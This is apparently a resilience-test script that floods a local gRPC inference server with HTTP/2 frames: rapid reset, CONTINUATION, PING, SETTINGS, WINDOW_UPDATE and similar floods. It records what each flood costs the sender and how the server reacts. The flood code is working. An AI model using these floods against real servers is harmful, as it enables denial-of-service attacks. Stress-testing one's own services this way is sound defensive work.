"""Floods a server with HTTP/2 frames: h2_flood.py PORT KIND COUNT. Prints one JSON object of what it did and what came of it."""
import json
import select
import socket
import struct
import sys
import time

from h2.connection import H2Connection
from h2.events import ConnectionTerminated, PingAckReceived, RemoteSettingsChanged, SettingsAcknowledged
from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/inference.GRPCInferenceService/ModelInfer"

port, kind, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
patience = 3.0


def headers(encoder):
    return encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "x"),
                           ("content-type", "application/grpc"), ("te", "trailers")])


def settings(**values):
    return SettingsFrame(settings={getattr(SettingsFrame, k.upper()): v for k, v in values.items()}).serialize()


def row():
    """ModelInfer of the row [0, 1] for the family tiny, as protobuf by hand."""
    def field(number, data):
        return bytes([number << 3 | 2, len(data)]) + data
    tensor = field(1, b"x") + field(2, b"FP32") + field(3, bytes([1, 2]))
    message = field(1, b"tiny") + field(5, tensor) + field(7, struct.pack("<2f", 0, 1))
    return b"\0" + struct.pack(">I", len(message)) + message


def frames():
    encoder = Encoder()
    if kind == "rapid_reset":
        for i in range(count):
            stream = 2 * i + 1
            yield HeadersFrame(stream, data=headers(encoder), flags=["END_HEADERS"]).serialize()
            yield RstStreamFrame(stream, error_code=8).serialize()
    elif kind == "continuation":
        yield HeadersFrame(1, data=headers(encoder)).serialize()
        for i in range(count):
            yield ContinuationFrame(1, data=encoder.encode([("x-%d" % i, "y" * 16)])).serialize()
    elif kind == "empty_continuation":
        yield HeadersFrame(1, data=headers(encoder)).serialize()
        for i in range(count):
            yield ContinuationFrame(1).serialize()
    elif kind == "settings":
        for i in range(count):
            yield settings(initial_window_size=65535 + i % 2)
    elif kind == "ping":
        for i in range(count):
            yield PingFrame(opaque_data=struct.pack(">Q", i)).serialize()
    elif kind == "priority":
        for i in range(count):
            yield PriorityFrame(2 * i + 1, depends_on=0, stream_weight=i % 256).serialize()
    elif kind == "empty_data":
        yield HeadersFrame(1, data=headers(encoder), flags=["END_HEADERS"]).serialize()
        for i in range(count):
            yield DataFrame(1, data=b"").serialize()
    elif kind == "window_updates":
        for i in range(count):
            yield WindowUpdateFrame(0, window_increment=1).serialize()
    elif kind in ("zero_window", "window_of_one"):
        for i in range(count):
            stream = 2 * i + 1
            yield HeadersFrame(stream, data=headers(encoder), flags=["END_HEADERS"]).serialize()
            yield DataFrame(stream, data=row(), flags=["END_STREAM"]).serialize()
    else:
        raise SystemExit("unknown kind " + kind)


window = {"zero_window": 0, "window_of_one": 1}.get(kind, 65535)
started = time.monotonic()
client = socket.create_connection(("127.0.0.1", port), timeout=patience)
client.sendall(PREFACE + settings(initial_window_size=window, enable_push=0))
client.recv(65536)

# What the flood costs its sender: making the frames and sending them, nothing before or behind.
cpu = time.process_time()
data = b"".join(frames())
client.setblocking(False)
sent, received, closed = 0, b"", None
until = time.monotonic() + patience
while sent < len(data) and time.monotonic() < until:
    _, writable, _ = select.select([], [client], [], 0.1)
    try:
        if writable:
            sent += client.send(data[sent:sent + 65536])
    except OSError as e:
        closed = type(e).__name__
        break
cpu = time.process_time() - cpu

# What came back, until the server closes or says no more.
goaway = None
until = time.monotonic() + (1.0 if closed is None else 0.3)
while time.monotonic() < until:
    readable, _, _ = select.select([client], [], [], 0.1)
    if not readable:
        continue
    try:
        part = client.recv(65536)
    except OSError as e:
        closed = closed or type(e).__name__
        break
    if not part:
        closed = closed or "end"
        break
    received += part
position, kinds = 0, {}
while position + 9 <= len(received):
    length = int.from_bytes(received[position:position + 3], "big")
    frame = received[position + 3]
    kinds[frame] = kinds.get(frame, 0) + 1
    if frame == 7:
        goaway = int.from_bytes(received[position + 13:position + 17], "big")
    position += 9 + length
print(json.dumps({"kind": kind, "cpu": cpu, "bytes": len(data), "sent": sent, "received": len(received), "closed": closed, "goaway": goaway,
                  "frames": kinds, "seconds": time.monotonic() - started}))
